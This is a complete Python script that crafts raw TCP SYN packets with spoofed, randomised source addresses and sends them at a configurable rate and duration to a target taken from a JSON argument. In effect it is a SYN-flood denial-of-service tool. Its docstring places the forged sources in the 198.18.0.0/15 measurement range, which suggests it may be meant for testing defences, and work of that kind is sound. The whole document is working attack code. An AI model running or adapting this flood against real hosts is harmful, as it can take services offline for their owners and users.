"""Sends SYNs from addresses that nobody has: a flood, as a stranger would send it.

The argument is JSON: {"target", "port", "rate", "seconds"}. Prints how many were sent. The sources are in
198.18.0.0/15, which RFC 2544 keeps for measurements.
"""

import json
import random
import socket
import struct
import sys
import time

plan = json.loads(sys.argv[1])
target, port = socket.inet_aton(plan["target"]), plan["port"]
STEP = 0.005  # seconds; a rate is made of bursts of this distance


def folded(total):
    total = (total >> 16) + (total & 0xFFFF)
    return (total >> 16) + (total & 0xFFFF)


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


# The kernel fills in length and checksum of the IP header: raw(7), IP_HDRINCL.
IP_HEAD = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
OPTIONS = struct.pack("!BBH", 2, 4, 1460)
TCP_TAIL = struct.pack("!IBBH", 0, (5 + len(OPTIONS) // 4) << 4, 0x02, 64240)
# All that does not change: the pseudo header's target, protocol and length; the target's port, the tail, the options.
FIXED = words(target) + socket.IPPROTO_TCP + 20 + len(OPTIONS) + port + words(TCP_TAIL) + words(OPTIONS)


def syn():
    high, low = 0xC612 + random.getrandbits(1), random.getrandbits(16)
    own = 1024 + random.getrandbits(15)
    first, second = random.getrandbits(16), random.getrandbits(16)
    total = ~folded(FIXED + high + low + own + first + second) & 0xFFFF
    head = struct.pack("!HH", high, low) + target + struct.pack("!HHHH", own, port, first, second)
    return IP_HEAD + head + TCP_TAIL + struct.pack("!HH", total, 0) + OPTIONS


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
began = time.monotonic()
sent = 0
while (passed := time.monotonic() - began) < plan["seconds"]:
    while sent < plan["rate"] * passed:
        try:
            out.sendto(syn(), (plan["target"], 0))
        except OSError:
            pass  # no room in a queue: as if it were lost on the way
        sent += 1
    time.sleep(STEP)
print(sent)
